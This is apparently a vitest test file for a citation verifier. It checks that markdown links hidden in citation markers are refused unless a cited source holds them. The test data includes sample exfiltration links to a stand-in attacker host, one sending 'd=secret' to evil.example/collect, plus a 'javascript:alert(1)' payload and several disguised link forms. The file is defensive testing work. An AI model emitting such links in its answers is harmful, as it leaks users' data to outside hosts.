import { describe, expect, it } from 'vitest';
import { verifyProviderCitations } from './verify-provider-citations.js';

// A thirty-sixth review: a marker without a URL (an OpenAI container_file_citation) that reads as a markdown link had
// only its label charged to its claim, and its destination was read by nothing: `[report.csv](https://evil.example/…)`
// was accepted, although the same link in a claim or in uncited text is refused. Its links are now its claim's, found
// in the claim's cited sources (or a document's uri) as a link in the claim's text is.
const TEXT = 'The grass is green. The sky is blue.';
const documents = [{ documentId: 'file-1', chunkId: 'file-1#0', start: 0, end: TEXT.length, text: TEXT }];

function verify(
  marker: string,
  docs: typeof documents | Array<(typeof documents)[0] & { uri: string }> = documents,
) {
  const answer = `The grass is green. ${marker}`;
  const start = answer.indexOf(marker);
  const citation = {
    type: 'container_file_citation',
    document: { ids: ['file-1'] },
    answer: { start, end: answer.length, role: 'marker' as const },
  };
  return verifyProviderCitations(answer, [citation], docs);
}

describe('verifyProviderCitations: the destination of a marker without a URL', () => {
  it.each([
    '[report.csv](https://evil.example/collect?d=secret)',
    '[1](https://evil.example/x)',
    '[report](javascript:alert(1))',
    '[report](https://evil.example/x "the report")',
    '[report](sandbox:/mnt/data/report.csv "https://evil.example/y")',
    '[report](<https://evil.example/x>)',
    '([report](https://evil.example/x))',
    '[a.org](https://evil.example/x)',
  ])('refuses %j, whose link no cited source holds', (marker) => {
    const result = verify(marker);
    expect(result.status).toBe('rejected');
    expect(result.rejected.map((claim) => claim.code)).toEqual(['unknown_identifier']);
  });

  it.each([
    '[report.csv](sandbox:/mnt/data/report.csv)',
    '[report.csv](<sandbox:/mnt/data/report.csv> "the report")',
    '[report](#notes)',
    '[report]()',
  ])('accepts %j, which links no identifier', (marker) => {
    expect(verify(marker)).toMatchObject({ status: 'answered', rejected: [] });
  });

  it("accepts a link to the cited document's uri", () => {
    const docs = [{ ...documents[0]!, uri: 'https://a.org/page' }];
    expect(verify('[a.org](https://a.org/page)', docs)).toMatchObject({ status: 'answered', rejected: [] });
    expect(verify('[a.org](https://evil.example/page)', docs).status).toBe('rejected');
  });
});
